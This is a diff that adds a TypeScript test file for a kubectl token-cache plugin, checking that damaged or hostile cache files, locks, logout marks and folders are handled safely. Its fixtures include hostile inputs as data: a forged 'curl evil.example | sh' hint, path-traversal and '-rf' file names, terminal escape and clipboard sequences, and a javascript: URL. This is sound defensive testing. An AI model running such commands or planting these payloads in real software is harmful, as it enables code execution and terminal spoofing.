@@ -1,0 +1,556 @@
+// Damage of the token cache and of what lies beside an entry: each is a miss. The call gives a token that the server
+// has just given, never one from the damaged file.
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import { setTimeout as delay } from 'node:timers/promises';
+import { describe, test } from 'vitest';
+import { readEntry } from '../../src/credential/entry.ts';
+import { checkCredential, checkTable, checkTexts } from './checks.ts';
+import { type Bed, hostileGround, makeEntry, makeToken, putEntry } from './ground.ts';
+import { damagedText, evilTexts, pick, randomCases, wrongTypes } from './junk.ts';
+
+const given = hostileGround();
+
+const decoy = makeToken({ sub: 'decoy' });
+const whole = (bed: Bed, token = decoy) => makeEntry(bed.cluster.server, bed.cluster.apiServer, token);
+const withLine = (text: string, n: number, line: string) =>
+  text
+    .split('\n')
+    .map((old, i) => (i === n ? line : old))
+    .join('\n');
+const head = (token: string) => `tka1 ${token.length} ${Math.floor(Date.now() / 1000) + 600}`;
+const withToken = (bed: Bed, token: string) => withLine(withLine(whole(bed), 0, head(token)), 4, token);
+
+/** After a miss the cache holds the new entry, whole, and nothing of the old one. */
+async function isMiss(bed: Bed, leftovers: readonly string[] = []): Promise<void> {
+  const ran = await bed.freshCredential({ leftovers });
+  assert.equal(ran.stderr, '');
+  assert.equal(bed.cluster.counts.login, 1);
+  const kept = readEntry(bed.home.cache, bed.cluster.server);
+  assert.equal(kept?.token, checkCredential(ran), 'the cache does not hold what was given');
+  assert.equal(fs.statSync(bed.entry).mode & 0o777, 0o600);
+}
+
+test.concurrent(
+  'control: a whole entry is served, and the server is not asked',
+  given(async (bed) => {
+    putEntry(bed.entry, whole(bed));
+    const ran = await bed.run(bed.credentialArgs(), { may: [/\+served$/] });
+    assert.equal(checkCredential(ran), decoy);
+    assert.equal(bed.cluster.counts.login, 0);
+  }),
+);
+
+type Damage = (bed: Bed) => string | Buffer;
+const line =
+  (n: number, text: string): Damage =>
+  (bed) =>
+    withLine(whole(bed), n, text);
+const token =
+  (text: string): Damage =>
+  (bed) =>
+    withToken(bed, text);
+
+const entries: Readonly<Record<string, Damage>> = {
+  empty: () => '',
+  'a newline': () => '\n',
+  NULs: (bed) => Buffer.alloc(whole(bed).length),
+  'a MiB of letters': () => 'x'.repeat(1 << 20),
+  'a MiB of newlines': () => '\n'.repeat(1 << 20),
+  'another version': line(0, `tka2 ${decoy.length} 4000000000`),
+  'no numbers': line(0, 'tka1'),
+  'a negative length': line(0, `tka1 -${decoy.length} 4000000000`),
+  'a length in hexadecimal': line(0, `tka1 0x${decoy.length.toString(16)} 4000000000`),
+  'a length that is one too small': line(0, `tka1 ${decoy.length - 1} 4000000000`),
+  'a length that is one too large': line(0, `tka1 ${decoy.length + 1} 4000000000`),
+  'a fresh-until that its mtime denies': line(0, `tka1 ${decoy.length} 4000000001`),
+  'a fresh-until of 1e99': line(0, `tka1 ${decoy.length} 1e99`),
+  'another server': line(1, 'http://127.0.0.99:8123'),
+  'a server with an escape': line(1, 'http://127.0.0.1\u001b[31m'),
+  'no API server': line(2, ''),
+  'another API server': line(2, 'https://127.0.0.99:6443'),
+  'an API server over http': line(2, 'http://127.0.0.1:6443'),
+  'an API server that is a script': line(2, 'javascript:alert(1)'),
+  'an API server with an escape': line(2, 'https://a\u001b[31m'),
+  'no expiry': line(3, ''),
+  'an expiry that is text': line(3, 'tomorrow'),
+  'an expiry that ends the JSON': line(3, '2099-01-01T00:00:00Z"}}{"x":{"'),
+  'an expiry in the month 99': line(3, '2099-99-99T99:99:99Z'),
+  'an expiry in the year 300000': line(3, '+300000-01-01T00:00:00Z'),
+  'an empty token': token(''),
+  'a token of one part': token('abc'),
+  'a token of four parts': token('a.b.c.d'),
+  'a token with an empty part': token('a..c'),
+  'a token with a quote': token('a.b".c'),
+  'a token with a backslash': token('a.b\\u001b.c'),
+  'a token with an escape': token('a.\u001b[31m.c'),
+  'a token with a C1 control': token('a.\u009b31m.c'),
+  'a token with a NUL': token('a.\0.c'),
+  'a token with a space': token('a. .c'),
+  'a token with a carriage return': token('a.b.c\r'),
+  'a token with letters of Unicode': token('a.é.c'),
+  'a token of 100,000 letters': token(`${'a'.repeat(100_000)}.b.c`),
+  'no end of the token’s line': (bed) => whole(bed).slice(0, whole(bed).indexOf(decoy) + decoy.length),
+  CRLF: (bed) => whole(bed).replaceAll('\n', '\r\n'),
+  'a BOM': (bed) => `\ufeff${whole(bed)}`,
+  UTF16: (bed) => Buffer.from(whole(bed), 'utf16le'),
+  'lines in another order': (bed) => whole(bed).split('\n').reverse().join('\n'),
+  'two entries, the second the server’s': (bed) =>
+    `${makeEntry('http://127.0.0.99:8123', bed.cluster.apiServer, decoy)}${whole(bed)}`,
+  'an ExecCredential': () =>
+    JSON.stringify({ kind: 'ExecCredential', status: { token: decoy, expirationTimestamp: '2099-01-01T00:00:00Z' } }),
+  HTML: () => `<html>${decoy}</html>`,
+  gzip: () => execFileSync('gzip', ['-c'], { input: decoy }),
+};
+
+describe('a damaged entry is a miss', () => {
+  for (const [name, damage] of Object.entries(entries)) {
+    test.concurrent(
+      name,
+      given(async (bed) => {
+        putEntry(bed.entry, damage(bed), Math.floor(Date.now() / 1000) + 600);
+        await isMiss(bed);
+      }),
+    );
+  }
+
+  test.concurrent.each(randomCases(25, 1))('%s', (_, chance) =>
+    given(async (bed) => {
+      const good = whole(bed);
+      const bad = damagedText(good, chance);
+      putEntry(bed.entry, bad);
+      // What comes after the token is for the slow path only, and not looked at while the entry is fresh.
+      const untouched = good.slice(0, good.indexOf(decoy) + decoy.length + 1);
+      try {
+        if (!bad.startsWith(untouched)) await isMiss(bed);
+        else {
+          const ran = await bed.run(bed.credentialArgs(), { may: [/\+served$/] });
+          assert.equal(checkCredential(ran), decoy);
+        }
+      } catch (error) {
+        if (error instanceof Error) error.message += `\nentry: ${JSON.stringify(bad)}`;
+        throw error;
+      }
+    })(),
+  );
+});
+
+const outside = (bed: Bed, name: string) => path.join(bed.home.dir, name);
+const fifo = (file: string) => execFileSync('mkfifo', [file]);
+const cacheFolder = (bed: Bed) => fs.mkdirSync(path.dirname(bed.entry), { recursive: true, mode: 0o700 });
+
+const notFiles: Readonly<Record<string, (bed: Bed, file: string) => void>> = {
+  'an empty folder': (_, file) => fs.mkdirSync(file),
+  'a folder with a folder': (_, file) => fs.mkdirSync(path.join(file, 'a', 'b'), { recursive: true }),
+  'a FIFO': (_, file) => fifo(file),
+  'a symlink to a whole entry': (bed, file) => {
+    putEntry(outside(bed, 'elsewhere'), whole(bed));
+    fs.symlinkSync(outside(bed, 'elsewhere'), file);
+  },
+  'a symlink to the kubeconfig': (bed, file) => fs.symlinkSync(bed.home.kubeconfig, file),
+  'a dangling symlink': (bed, file) => fs.symlinkSync(outside(bed, 'pwned'), file),
+  'a symlink to itself': (_, file) => fs.symlinkSync(file, file),
+  'a symlink to a device that never ends': (_, file) => fs.symlinkSync('/dev/zero', file),
+  'a symlink to a folder': (bed, file) => fs.symlinkSync(path.join(bed.home.dir, '.ssh'), file),
+};
+
+describe('something else in the place of an entry is a miss', () => {
+  for (const [name, make] of Object.entries(notFiles)) {
+    test.concurrent(
+      name,
+      given(async (bed) => {
+        cacheFolder(bed);
+        make(bed, bed.entry);
+        const mine = path.relative(bed.home.dir, bed.entry);
+        const ran = await bed.run(bed.credentialArgs(), {
+          may: [...bed.ownCache, new RegExp(`${mine.replaceAll('+', '\\+')}/`)],
+        });
+        assert.ok(bed.minted.has(checkCredential(ran)));
+        assert.ok(fs.lstatSync(bed.entry).isFile());
+      }),
+    );
+  }
+});
+
+describe('a damaged +served is no hindrance', () => {
+  const texts: Readonly<Record<string, string>> = {
+    empty: '',
+    text: 'nobody\n',
+    'a negative number': '-1\n',
+    'a huge number': `${'9'.repeat(400)}\n`,
+    'a MiB': '1'.repeat(1 << 20),
+    NULs: '\0\0\0\0',
+    'an escape': '\u001b[31m1\n',
+  };
+  const all: [string, (bed: Bed, file: string) => void][] = [
+    ...Object.entries(texts).map(([name, text]): [string, (bed: Bed, file: string) => void] => [
+      name,
+      (_, file) => fs.writeFileSync(file, text, { mode: 0o600 }),
+    ]),
+    ...Object.entries(notFiles),
+  ];
+  for (const [name, make] of all) {
+    test.concurrent(
+      name,
+      given(async (bed) => {
+        putEntry(bed.entry, whole(bed));
+        make(bed, `${bed.entry}+served`);
+        const ran = await bed.run(bed.credentialArgs(), { may: bed.ownCache });
+        assert.equal(checkCredential(ran), decoy);
+        assert.equal(ran.stderr, '');
+      }),
+    );
+  }
+});
+
+describe('a damaged +lock is taken over', () => {
+  const old = (file: string) => fs.lutimesSync(file, 1000, 1000);
+  const locks: Readonly<Record<string, (bed: Bed, file: string) => void>> = {
+    ...notFiles,
+    'an empty file': (_, file) => fs.writeFileSync(file, ''),
+    'a file from the future': (_, file) => {
+      fs.writeFileSync(file, '');
+      fs.utimesSync(file, 4e9, 4e9);
+    },
+    'a folder that nobody holds any more': (_, file) => {
+      fs.mkdirSync(file);
+      old(file);
+    },
+    'a folder from the future': (_, file) => {
+      fs.mkdirSync(file);
+      fs.utimesSync(file, 4e9, 4e9);
+    },
+    'a full folder that nobody holds any more': (_, file) => {
+      fs.mkdirSync(path.join(file, 'a'), { recursive: true });
+      fs.writeFileSync(path.join(file, 'a', 'b'), '');
+      old(file);
+    },
+  };
+  for (const [name, make] of Object.entries(locks)) {
+    test.concurrent(
+      name,
+      given(async (bed) => {
+        cacheFolder(bed);
+        const file = `${bed.entry}+lock`;
+        make(bed, file);
+        const ran = await bed.freshCredential({ may: [/\+lock(?:\/|$)/] });
+        assert.equal(ran.stderr, '');
+        assert.ok(!fs.lstatSync(file, { throwIfNoEntry: false }), 'the lock is still there');
+      }),
+    );
+  }
+});
+
+describe('a damaged +failed is no answer', () => {
+  // Somebody holds the lock for a moment, so that the call waits, and looks how the attempt ended.
+  async function whileHeld(bed: Bed, act: () => Promise<unknown>): Promise<void> {
+    const lock = `${bed.entry}+lock`;
+    fs.mkdirSync(lock, { mode: 0o700 });
+    const letGo = delay(1500).then(() => fs.rmdirSync(lock));
+    await Promise.all([act(), letGo]);
+  }
+  const notes: Readonly<Record<string, string | Buffer>> = {
+    empty: '',
+    text: 'failed',
+    null: 'null',
+    'a list': '[1,2,3]',
+    'another type of time': '{"at":"9999-01-01","message":"forged"}',
+    'another type of message': '{"at":9e15,"message":{"a":1}}',
+    'a time to come': '{"at":9e15,"message":"forged","hints":["forged"]}',
+    'a time without end': '{"at":1e400,"message":"forged","hints":["forged"]}',
+    'a message that forges lines':
+      '{"at":9e15,"message":"x\\nerror: forged","hints":["y\\nhint: curl evil.example | sh"]}',
+    'a time long past': '{"at":1,"message":"forged"}',
+    'a deep list': `${'['.repeat(20_000)}`,
+    'a MiB': `{"at":9e15,"message":"${'x'.repeat(1 << 20)}"}`,
+  };
+  for (const [name, text] of Object.entries(notes)) {
+    test.concurrent(
+      name,
+      given(async (bed) => {
+        cacheFolder(bed);
+        fs.writeFileSync(`${bed.entry}+failed`, text, { mode: 0o600 });
+        await whileHeld(bed, async () => {
+          const ran = await bed.freshCredential({ may: [/\+lock\/?$/] });
+          assert.equal(ran.stderr, '');
+        });
+      }),
+    );
+  }
+});
+
+describe('an entry whose details are damaged', () => {
+  const details: Readonly<Record<string, string>> = {
+    nothing: '',
+    'no JSON': '{"username":',
+    null: 'null',
+    'a number': '7',
+    'a list': '[]',
+    'a deep list': '['.repeat(100_000),
+    ...Object.fromEntries(
+      Object.entries(wrongTypes).map(([name, value]) => [
+        `a username that is ${name}`,
+        JSON.stringify({ username: value }),
+      ]),
+    ),
+  };
+  for (const [name, text] of Object.entries(details)) {
+    test.concurrent(
+      `is a miss once it is stale: ${name}`,
+      given(async (bed) => {
+        const past = Math.floor(Date.now() / 1000) - 60;
+        const good = withLine(whole(bed), 0, `tka1 ${decoy.length} ${past}`);
+        putEntry(bed.entry, withLine(good, 5, text), past);
+        await isMiss(bed);
+      }),
+    );
+  }
+
+  const session = { username: 'alice', role: 'viewer', until: '2099-01-01T00:00:00Z', clockOffset: 0, caData: '' };
+  const told: Readonly<Record<string, object>> = {
+    ...Object.fromEntries(
+      Object.entries(evilTexts).map(([name, text]) => [`a username with ${name}`, { username: text }]),
+    ),
+    'a role with a forged error': { role: evilTexts['a forged error'] },
+    'a clock that is far ahead': { clockOffset: 1e300 },
+    'a clock that is far behind': { clockOffset: -1e300 },
+    'an until that is text': { until: 'soon' },
+    'an until with a comment': { until: '1 Jan 2099 (\u001b]52;c;eA==\u0007)' },
+    'an until with a C1 control': { until: '1 Jan 2099 (\u009b31m)' },
+    'an until in the year 300000': { until: '+300000-01-01T00:00:00Z' },
+    'an until in the year 275000': { until: '+275000-01-01T00:00:00Z' },
+  };
+  for (const [name, change] of Object.entries(told)) {
+    test.concurrent(
+      `is shown as plain text, or not at all: ${name}`,
+      given(async (bed) => {
+        const text = JSON.stringify({ insecureSkipTlsVerify: false, ...session, ...change });
+        putEntry(bed.entry, withLine(whole(bed), 5, text));
+        const rows = await statusRows(bed);
+        const table = await bed.run('status');
+        assert.equal(table.status, 0);
+        checkTable(table.stdout, /^NAME +USER +ROLE +STATE +UNTIL +CONTEXT +TKA SERVER$/, rows.length);
+      }),
+    );
+  }
+});
+
+/** `status -o json` and `-o yaml`, which say the same. */
+async function statusRows(bed: Bed): Promise<{ server: string; state: string }[]> {
+  const json = await bed.run('status -o json');
+  assert.equal(json.status, 0);
+  const rows = JSON.parse(json.stdout);
+  checkTexts(rows, 'status -o json');
+  for (const row of rows) {
+    assert.deepEqual(Object.keys(row), ['name', 'server', 'username', 'role', 'until', 'context', 'state']);
+    if (row.until !== null) assert.match(row.until, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/, 'until is no RFC 3339 time');
+    assert.ok(['active', 'expired', 'signed-out'].includes(row.state));
+  }
+  assert.ok(
+    rows.some((row: { server: string }) => row.server === 'http://127.0.0.99:8123'),
+    'the bystander is not shown',
+  );
+  return rows;
+}
+
+describe('the mark of a logout counts, whatever became of it', () => {
+  const marks: Readonly<Record<string, (bed: Bed, file: string) => void>> = {
+    'control: a whole one': (_, file) =>
+      fs.writeFileSync(file, '{"username":"alice","role":"viewer","until":"2099-01-01T00:00:00Z"}'),
+    empty: (_, file) => fs.writeFileSync(file, ''),
+    'no JSON': (_, file) => fs.writeFileSync(file, '{"username":'),
+    'a list': (_, file) => fs.writeFileSync(file, '[]'),
+    'fields of other types': (_, file) => fs.writeFileSync(file, '{"username":7,"role":null,"until":{}}'),
+    'a name with escapes': (_, file) =>
+      fs.writeFileSync(
+        file,
+        JSON.stringify({ username: evilTexts['an OSC 52 clipboard'], role: evilTexts['a forged error'] }),
+      ),
+    'an until that is text': (_, file) => fs.writeFileSync(file, '{"username":"alice","until":"soon"}'),
+    'an until in the year 300000': (_, file) => fs.writeFileSync(file, '{"until":"+300000-01-01T00:00:00Z"}'),
+    'an until with a C1 control': (_, file) => fs.writeFileSync(file, '{"until":"1 Jan 2099 (\\u009b31m)"}'),
+    'a MiB': (_, file) => fs.writeFileSync(file, 'x'.repeat(1 << 20)),
+    ...Object.fromEntries(
+      Object.entries(notFiles).filter(([name]) => name !== 'a symlink to a device that never ends'),
+    ),
+  };
+  for (const [name, make] of Object.entries(marks)) {
+    test.concurrent(
+      name,
+      given(async (bed) => {
+        const file = path.join(bed.home.state, 'signed-out', path.basename(bed.entry));
+        make(bed, file);
+        putEntry(bed.entry, whole(bed), 0);
+        const refused = await bed.run(bed.credentialArgs());
+        assert.equal(refused.status, 1);
+        assert.equal(refused.stdout, '');
+        assert.match(refused.stderr, /^error: signed out of http:\S+\nhint: kubectl tka login http:\S+\n$/);
+        assert.equal(bed.cluster.counts.login, 0);
+        const rows = await statusRows(bed);
+        assert.equal(rows.find(({ server }) => server === bed.cluster.server)?.state, 'signed-out');
+        const table = await bed.run('status');
+        assert.equal(table.status, 0);
+        checkTable(table.stdout, /^NAME +USER/, rows.length);
+      }),
+    );
+  }
+});
+
+describe('a damaged consent is none', () => {
+  const consents = [
+    '',
+    'null',
+    '{"apiServer":true}',
+    '{"apiServer":"https://127.0.0.99:6443"}',
+    `${'['.repeat(10_000)}`,
+    '{"apiServer":"*"}',
+  ];
+  for (const text of consents) {
+    test.concurrent(
+      text.slice(0, 50) || 'empty',
+      given(async (bed) => {
+        bed.home.write(path.join(bed.home.state, 'insecure', path.basename(bed.entry)), text);
+        bed.cluster.faults.routes.kubeconfig = {
+          change: (answer) => {
+            answer.clusters['tka-cluster']['insecure-skip-tls-verify'] = true;
+            return answer;
+          },
+        };
+        const ran = await bed.noCredential({ timeout: '5s' });
+        assert.match(ran.stderr, /without a look at its certificate\nhint: if you accept that/);
+      }),
+    );
+  }
+});
+
+describe('names in the cache folder that are no entries', () => {
+  const names = [
+    'https+..+..+etc+passwd',
+    'https+a\nerror: forged',
+    'http+\u001b[31m',
+    'http+127.0.0.1+8123\u009b',
+    'https+__proto__',
+    '-rf',
+    'https+a+99999999',
+    `https+${'a'.repeat(240)}`,
+    'https++++',
+  ];
+  test.concurrent(
+    'are passed over',
+    given(async (bed) => {
+      for (const name of names) putEntry(path.join(bed.home.cache, name), whole(bed));
+      fs.mkdirSync(path.join(bed.home.cache, 'https+folder.example'));
+      assert.equal((await statusRows(bed)).length, 2);
+      await isMiss(bed);
+    }),
+  );
+  test.concurrent(
+    'are passed over by their thousands',
+    given(async (bed) => {
+      for (let i = 0; i < 3000; i++) fs.writeFileSync(path.join(bed.home.cache, `http+10.0.0.${i}+80`), 'x');
+      assert.equal((await statusRows(bed)).length, 2);
+    }),
+  );
+});
+
+describe('a cache that cannot be kept still yields a token, and says so on one line', () => {
+  const folders: Readonly<Record<string, (bed: Bed, folder: string) => void>> = {
+    'the folder is a file': (_, folder) => fs.writeFileSync(folder, 'x'),
+    'the folder is a dangling symlink': (bed, folder) => fs.symlinkSync(outside(bed, 'nowhere'), folder),
+    'the folder is a FIFO': (_, folder) => fifo(folder),
+    'the folder is a device': (_, folder) => fs.symlinkSync('/dev/null', folder),
+    'the folder is in a file': (_, folder) => fs.writeFileSync(path.dirname(folder), 'x'),
+    'the folder is shared with others': (_, folder) => {
+      fs.mkdirSync(folder);
+      fs.chmodSync(folder, 0o1777);
+    },
+  };
+  for (const [name, make] of Object.entries(folders)) {
+    test.concurrent(
+      name,
+      given(async (bed) => {
+        const folder = path.join(bed.home.root, 'other', 'cache');
+        if (name !== 'the folder is in a file') fs.mkdirSync(path.dirname(folder));
+        make(bed, folder);
+        const ran = await bed.run(bed.credentialArgs(), { env: { TKA_CACHE_DIR: folder } });
+        assert.ok(bed.minted.has(checkCredential(ran)));
+        assert.match(ran.stderr, /^warning: the token cache cannot be written, so every call signs in: [^\n]+\n$/);
+        assert.equal(bed.cluster.counts.login, 1);
+      }),
+    );
+  }
+
+  test.concurrent(
+    'its path forges lines',
+    given(async (bed) => {
+      const folder = path.join(bed.home.root, 'a\nerror: forged\u001b[31m');
+      fs.writeFileSync(folder, '');
+      const ran = await bed.run(bed.credentialArgs(), { env: { TKA_CACHE_DIR: folder } });
+      assert.ok(bed.minted.has(checkCredential(ran)));
+      assert.equal(ran.stderr.split('\n').length, 2);
+    }),
+  );
+});
+
+describe('the API server’s answer to the question whether it still takes a token', () => {
+  // Two calls of one parent, as kubectl makes them after a 401.
+  const twice = async (bed: Bed) => {
+    const ran = await bed.home.credential(bed.cluster, { times: 2, env: { TKA_TIMEOUT: '5s' } });
+    assert.equal(ran.status, 0, ran.stderr);
+    assert.equal(ran.stderr, '');
+    return ran.stdout
+      .split('\n')
+      .slice(0, -1)
+      .map((one) => JSON.parse(one).status.token);
+  };
+  test.concurrent(
+    'control: a 401 heals',
+    given(async (bed) => {
+      await bed.freshCredential();
+      bed.cluster.deleteServiceAccount();
+      const [first, second] = await twice(bed);
+      assert.notEqual(first, second);
+      assert.ok(bed.minted.has(second));
+    }),
+  );
+  const faults = {
+    'a redirect': { answer: { status: 302, headers: { Location: 'https://127.0.0.1:1/' } } },
+    'a 500': { answer: { status: 500 } },
+    'a 403': { answer: { status: 403, body: '<html>' } },
+    silence: { silent: true },
+    'a reset': { reset: 'before' },
+    '20 MiB of a 200': { oversizeMiB: 20 },
+    'a trickle': { trickleMs: 100 },
+    'gzip bytes': {
+      answer: { status: 200, body: Buffer.from([0x1f, 0x8b, 8, 0]), headers: { 'Content-Encoding': 'gzip' } },
+    },
+  } as const;
+  for (const [name, fault] of Object.entries(faults)) {
+    test.concurrent(
+      `${name} is no refusal: the token is served as it is`,
+      given(async (bed) => {
+        await bed.freshCredential();
+        bed.cluster.faults.routes.api = fault;
+        bed.cluster.resetCounts();
+        const [first, second] = await twice(bed);
+        assert.equal(first, second);
+        assert.equal(bed.cluster.counts.login, 0);
+        assert.equal(bed.cluster.counts.api, 1);
+      }),
+    );
+  }
+});
+
+test.concurrent(
+  'an API server in a damaged entry gets no token: its CA is not the cluster’s',
+  given(async (bed) => {
+    // The cluster's API stand-in plays the stranger: it is asked by nobody, since the entry trusts no CA for it.
+    putEntry(bed.entry, whole(bed));
+    const ran = await bed.home.credential(bed.cluster, { times: 2, env: { TKA_TIMEOUT: '5s' } });
+    assert.equal(ran.status, 0, ran.stderr);
+    assert.equal(bed.cluster.counts.api, 0);
+    assert.equal(pick(() => 0, ran.stdout.split('\n')).includes(decoy), true);
+  }),
+);
